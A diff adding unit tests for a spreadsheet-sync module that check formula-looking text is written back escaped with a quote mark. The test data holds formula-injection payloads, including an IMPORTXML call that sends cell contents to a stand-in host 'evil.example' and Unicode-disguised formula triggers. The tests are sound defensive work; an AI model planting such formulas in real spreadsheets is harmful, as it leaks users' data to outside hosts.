@@ -28,6 +28,16 @@ describe('pulledBlocks', () => {
     const blocks = pulledBlocks(keys, { revision: 0, columns: ['code', 'description'], rows: [['E1', '=HYPERLINK("x")'], ['E2', null]] }, 3)
     expect(blocks[0]!.values).toEqual([['E1', `'=HYPERLINK("x")`], ['E2', ''], ['', '']])
   })
+
+  it('keeps every formula-looking text as text, by the CSV reports’ rule, and numbers as numbers', () => {
+    const risky = ['+IMPORTXML("http://evil.example/?"&A1,"//a")', '-2+3', '@SUM(1)', ' =1', '\u3000=1', '\u200B+1', '\u202E@x', '\uFEFF-1', '＝1+1', '＋1', '－1', '＠x', '\n=1']
+    const keys = keyColumns(['code', 'description', 'amount'])
+    const data = { revision: 0, columns: ['code', 'description', 'amount'], rows: risky.map((text, i) => [`E${i}`, text, -12.5]) }
+    const written = pulledBlocks(keys, data, 0)[0]!.values
+    expect(written.map((row) => row[1])).toEqual(risky.map((text) => `'${text}`))
+    expect(written.every((row) => row[2] === -12.5)).toBe(true)
+    expect(pulledBlocks(keys, { ...data, rows: [['E1', '南京路店 2026-03', 0]] }, 0)[0]!.values).toEqual([['E1', '南京路店 2026-03', 0]])
+  })
 })
 
 describe('pushRows', () => {
@@ -70,5 +80,14 @@ describe('computedBlocks', () => {
       { row: 3, column: 4, values: [[0.5, 'draft'], ['', 'draft']] },
     ])
     expect(computedBlocks(keys, ['total'], [], [])).toEqual([])
+  })
+
+  it('writes back kept text as text: getValues gives it without the quote mark it was entered with', () => {
+    const keys = keyColumns(['code', 'name'])
+    const grid = [
+      ['A', '+IMPORTXML("http://evil.example","//a")'],
+      ['B', '=1+1'],
+    ]
+    expect(computedBlocks(keys, ['name'], [{ row: 3, values: { name: '＠x' } }], grid)).toEqual([{ row: 3, column: 2, values: [["'＠x"], ["'=1+1"]] }])
   })
 })
